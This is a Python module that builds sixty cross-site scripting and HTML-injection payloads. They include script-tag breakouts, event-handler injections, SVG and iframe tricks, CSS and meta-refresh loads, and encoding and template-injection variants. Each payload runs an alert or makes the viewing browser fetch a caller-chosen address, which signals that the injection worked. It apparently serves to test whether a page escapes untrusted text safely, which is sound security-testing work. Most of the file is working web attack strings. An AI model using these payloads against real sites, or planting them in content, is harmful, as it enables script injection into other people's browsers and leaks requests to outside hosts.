"""Sixty texts that run a program or load something in a page that shows them carelessly."""

from __future__ import annotations

_FORMS = (
    "<script>{js}</script>",
    "</script><script>{js}</script>",
    "</SCRIPT ><ScRiPt x>{js}</sCrIpT\n>",
    "<!--<script>{js}</script>--><script>{js}</script>",
    "<!--<script>",
    "--><script>{js}</script>",
    "--!><img src=x onerror={js}>",
    "]]><script>{js}</script>",
    "<![CDATA[<script>{js}</script>]]>",
    "</title><script>{js}</script>",
    "</style><script>{js}</script>",
    "</textarea></noscript></template><script>{js}</script>",
    "</pre></div></section></main><img src=x onerror={js}>",
    "<img src=x onerror={js}>",
    "<img src=x onerror=\"{js}\">",
    "<img/src=x/onerror={js}//",
    "<img src={url}>",
    "<img srcset='{url} 2x' src=x>",
    "<image href={url} src={url}>",
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><style><img src=x onerror={js}></style></svg>",
    "<svg><image href='{url}'/><use href='{url}#x'/></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src=x onerror={js}>",
    "<noscript><p title=\"</noscript><img src=x onerror={js}>\">",
    "<iframe src=\"javascript:parent.eval('{plain}')\"></iframe>",
    "<iframe srcdoc=\"<script>{js}</script>\"></iframe>",
    "<iframe src='{url}'></iframe>",
    "<object data='{url}'></object>",
    "<embed src='{url}'>",
    "<video src='{url}' onerror={js}></video>",
    "<video><source onerror={js} src=x></video>",
    "<audio autoplay src='{url}' onerror={js}></audio>",
    "<link rel=stylesheet href='{url}'>",
    "<link rel=preload as=image href='{url}'>",
    "<style>@import '{url}';</style>",
    "<style>*{{background:url({url})}}</style>",
    "<p style=\"background:url('{url}')\">",
    "<body background='{url}' onload={js}>",
    "<input autofocus onfocus={js}>",
    "<details open ontoggle={js}>x</details>",
    "<marquee onstart={js}>x</marquee>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<base href='{url}/'>",
    "<form action='{url}'><button autofocus>x</button></form><script>document.forms[0].submit()</script>",
    "<template><img src=x onerror={js}></template>",
    "\" onmouseover={js} autofocus onfocus={js} x=\"",
    "' onerror={js} src=x '",
    "`;{js};//",
    "\";{js};//",
    "\\\";{js};//",
    "</script\u2028><script>{js}\u2029</script>",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&#60;img src=x onerror={js}&#62;",
    "\\u003cimg src=x onerror={js}\\u003e",
    "[link](javascript:{js}) ![picture]({url}) <{url}>",
    "javascript:{js}",
    "{{{{7*7}}}}{{% for x in y %}}${{{js}}}<%= 7*7 %>",
    "+ADw-script+AD4-{js}+ADw-/script+AD4- \x00\x1b]8;;{url}\x07\u202e<script>{js}</script>",
)  # fmt: skip


def payloads(address: str) -> list[str]:
    """The texts; number ``n`` raises a dialog or asks ``{address}/n`` for something if it gets through."""
    made = []
    for number, form in enumerate(_FORMS):
        url = f"{address}/{number}"
        made.append(
            form.format(
                js=f"(new/**/Image).src=`{url}`,alert({number})",
                plain=f"(new/**/Image).src=`{url}`",
                url=url,
            )
        )
    return made
